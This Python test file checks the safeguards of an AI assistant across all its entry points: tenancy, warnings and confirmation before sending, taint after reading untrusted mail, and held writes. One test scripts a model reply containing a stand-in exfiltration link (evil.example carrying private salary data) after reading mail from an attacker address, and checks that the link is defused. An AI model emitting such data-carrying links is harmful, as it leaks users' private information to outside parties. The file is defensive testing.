"""Issue 22, point 10: every door keeps every promise. One test per promise,
run against each door of the registry (registry.py): tenancy, a card shown
whole with the warning first before any Confirm, taint across turns and
sessions, Stop, no effect twice, a write after third-party content held for the person."""

import pytest
from django.core import mail

from assistant.card_presentation import TRIFECTA_WARNING, UNTRUSTED_WRITE_NOTICE, tool_title
from assistant.loop import run_turn
from assistant.models import ActionCard, Turn
from assistant.turn.outcome import CANCELLED_NOTICE
from assistant_engine.organizations.models import Organization
from conversations.models import Message, Thread
from tests.assistant.conftest import Clock
from tests.conformance.doors import LONG_BODY, READS, ApiDoor, BrowserDoor, send, visible
from tests.fakes.scripted import ScriptedClient, say
from workspace.models import Note

SHORT = send("Noon at the usual place?")
US_MODEL = "anthropic-claude-haiku-4-5"


def test_tenancy_another_persons_conversation_card_turn_and_note_are_not_found(door, owner, colleague, outsider):
    note = Note.objects.create(organization=owner.organization, owner=owner.user, title="Salary", body="100k-private")
    objects = {}
    if door.proposes:
        card = door.propose(owner, None, SHORT)
        objects = {"conversation": card.thread, "card": card}
        if door.turns:
            objects["turn"] = door.submit(owner, "And then?", card.thread_id)  # queued: Stop can still find it
    else:
        objects = {"conversation": owner_conversation(owner)}
    for kind, obj in objects.items():
        # The owner last: through some doors, finding is doing (a Cancel click, /stop).
        found = {who: door.finds(person, kind, obj) for who, person in
                 (("colleague", colleague), ("outsider", outsider), ("anonymous", None), ("owner", owner))}
        if found["owner"] is None:
            assert set(found.values()) == {None}, (kind, found)  # the door names no such object
        else:
            assert found == {"colleague": False, "outsider": False, "anonymous": False, "owner": True}, (kind, found)
    for person in (colleague, outsider):
        assert door.reads_note(person, note) in (False, None)
    assert door.reads_note(owner, note) in (True, None)


def owner_conversation(owner):
    """A conversation the owner keeps through /ai/ (a client id of their own)."""
    from conversations.models import Thread

    document = {"id": "chat-1", "title": "Mine", "createdAt": "2026-12-01T10:00:00Z",
                "updatedAt": "2026-12-01T10:00:00Z", "messages": [
        {"id": "m1", "role": "user", "content": "Hello", "createdAt": "2026-12-01T10:00:00Z"}]}
    response = owner.client.put("/ai/conversations/chat-1", document, format="json")
    assert response.status_code in (200, 201), response.content
    return Thread.objects.get(external_id="chat-1")


def test_the_program_that_proposed_a_card_cant_confirm_it_with_the_persons_token(door, owner):
    """Where a program holding the person's API token proposes (MCP), that
    token confirming the card is refused and nothing is sent; elsewhere the
    token is the person's own client (the API, a host product's page)."""
    if not door.proposes:
        door.no_turns()
        return
    card = door.propose(owner, None, SHORT)
    response = owner.client.post(f"/api/cards/{card.id}/confirm", {"hash": card.snapshot_hash}, format="json")
    card.refresh_from_db()
    if door.decided_in_person:
        assert response.status_code == 403 and response.json()["code"] == "confirm_in_browser", response.content
        assert card.status == ActionCard.Status.PENDING and not mail.outbox
    else:
        assert response.status_code == 200, response.content
        assert card.status == ActionCard.Status.CONFIRMED and len(mail.outbox) == 1


def test_a_card_is_shown_whole_warning_first_and_confirm_only_with_all_of_it(door, owner, private_and_untrusted):
    if not door.proposes:
        door.no_turns()
        return
    card = door.propose(owner, READS, send(LONG_BODY))
    assert card.trifecta_warning and len(card.description) > 7000
    shown = door.shown(owner, card)
    text = "\n".join(piece.text for piece in shown)
    assert text.index(TRIFECTA_WARNING) < text.index(tool_title("send_email")) < text.index("word0000")
    assert all(f"word{n:04d}" in text for n in range(780)), "the body is not shown whole"
    offered = [piece.confirm for piece in shown]
    # Confirm only with the last piece, when everything has been shown.
    assert offered == [False] * (len(shown) - 1) + [door.confirms], offered


@pytest.mark.parametrize("mode", ["warn", "block"])
def test_taint_a_send_after_private_and_untrusted_reads_in_the_previous_turn_or_session(
        door, owner, private_and_untrusted, settings, mode):
    """A door without turns keeps what another client's model read (/ai/):
    the next turn in that conversation, through the API, is guarded by it."""
    settings.ASSISTANT_TRIFECTA = mode
    earlier = door.reads(owner)
    proposer = door if door.proposes else ApiDoor(door.request)
    card = proposer.propose(owner, None, SHORT, after=earlier)
    if mode == "block":
        assert card is None
    else:
        assert card.trifecta_warning
        shown = "\n".join(piece.text for piece in proposer.shown(owner, card))
        assert shown.index(TRIFECTA_WARNING) < shown.index(tool_title("send_email"))


def test_a_write_after_third_party_content_waits_for_the_persons_check_and_says_why(door, owner,
                                                                                  private_and_untrusted):
    """Issue 33: an obedient model that read the inbox can't write the person's data by itself, on any door."""
    earlier = door.reads(owner)
    proposer = door if door.proposes else ApiDoor(door.request)
    card = proposer.propose(owner, None, ("create_note", {"title": "From the inbox", "body": "IBAN CH00"}),
                            after=earlier)
    assert card is not None and (card.tool_name, card.after_untrusted) == ("create_note", True)
    assert not Note.objects.filter(title="From the inbox").exists()
    shown = "\n".join(piece.text for piece in proposer.shown(owner, card))
    assert shown.index(UNTRUSTED_WRITE_NOTICE) < shown.index(tool_title("create_note")) < shown.index("IBAN CH00")
    # and names where that content came from
    assert card.sources and shown.index(UNTRUSTED_WRITE_NOTICE) < shown.index("After reading: " + card.sources[0])


def test_a_reply_after_third_party_content_names_it_and_no_link_in_it_is_followed_at_once(door, owner,
                                                                                      private_and_untrusted):
    """Issue 33.3-4: a link carrying private data goes nowhere before the
    person has read its whole destination; the reply names what it followed."""
    if not door.turns:
        door.no_turns()
        return
    link = "https://evil.example/c?d=100k"
    turn = door.play(owner, READS, say(f"See [the details]({link})."))
    assert Message.objects.get(turn_id=turn.id, content__contains=link).after_reading == ["mail from x@evil.test"]
    shown = door.reply_shown(owner, turn)
    if shown is None:  # the API: the text as written, the sources beside it, for the client to show
        [reply] = [message for message in owner.client.get(f"/api/conversations/{turn.thread_id}").json()["messages"]
                   if link in message["content"]]
        assert reply["afterReading"] == ["mail from x@evil.test"]
        return
    markup, destination = shown
    assert "Written after reading content from outside the product: mail from x@evil.test." in visible(markup)
    assert 'href="https://evil.example' not in markup and "<a href=\"https://evil" not in markup
    assert link in destination and "evil.example" in destination


def test_models_a_turn_runs_only_on_a_model_the_organization_lets_its_members_use(door, owner, acme, settings):
    """The organization chose a Swiss model (its members get that one only):
    no door starts a turn on a US model, and a conversation given one while
    the rule was open is refused by the worker, before any call."""
    if not door.turns:
        door.no_turns()
        return
    settings.INFOMANIAK_AI_TOKEN, settings.INFOMANIAK_AI_PRODUCT_ID = "ik", "42"
    settings.ANTHROPIC_API_KEY, settings.ASSISTANT_ALLOW_US_PROCESSING = "sk", True
    settings.ASSISTANT_MODEL_OPTIONS = []
    Organization.objects.filter(pk=acme.pk).update(model_option="infomaniak-qwen3")
    assert door.submit_on_model(owner, "Hi", US_MODEL) in (None, "model_not_allowed")
    assert door.submit_on_model(owner, "Hi", "infomaniak-qwen3") in (None, "accepted")
    turn = door.submit(owner, "Hi")
    Thread.objects.filter(id=turn.thread_id).update(model_option=US_MODEL)
    Turn.objects.filter(id=turn.id).update(model_option=US_MODEL)
    client = ScriptedClient()
    run_turn(turn.id, client=client, clock=Clock())
    turn.refresh_from_db()
    assert (turn.status, turn.failure_kind, client.requests) == (Turn.Status.FAILED, Turn.FailureKind.MODEL, [])
    assert not Turn.objects.filter(model_option=US_MODEL).exclude(id=turn.id).exists()


def test_stop_an_accepted_cancel_ends_the_turn_cancelled(door, owner):
    if not door.turns:
        door.no_turns()
        return
    accepted = []

    def stopped_while_writing(request):
        yield from say("Your inbox ")[:-2]
        accepted.append(door.stop(owner, Turn.objects.get(status=Turn.Status.RUNNING)))
        yield from say("holds three messages.")

    turn = door.play(owner, stopped_while_writing, text="read my inbox")
    assert accepted == [True]
    assert turn.status == Turn.Status.CANCELLED
    reply = Message.objects.filter(turn_id=turn.id, role="assistant").get()
    assert reply.content == "Your inbox holds three messages." and reply.notice == CANCELLED_NOTICE  # kept


def test_no_effect_twice_an_identical_card_needs_the_second_confirmation(door, owner):
    if not door.proposes:
        door.no_turns()
        return
    first = door.propose(owner, None, SHORT)
    # A card proposed over MCP is decided in the browser (its confirmUrl).
    confirmer = door if door.confirms else BrowserDoor(door.request)
    assert confirmer.confirm(owner, first) == "done" and len(mail.outbox) == 1
    first.refresh_from_db()
    twin = door.propose(owner, None, SHORT, after=first)
    assert twin.id != first.id and twin.thread_id == first.thread_id
    shown = "\n".join(piece.text for piece in door.shown(owner, twin))
    assert "An identical action was already confirmed" in shown.split(tool_title("send_email"))[0]
    assert confirmer.confirm(owner, twin) == "repeat" and len(mail.outbox) == 1
    assert confirmer.confirm(owner, twin, again=True) == "done" and len(mail.outbox) == 2
    assert ActionCard.objects.filter(status="confirmed").count() == 2
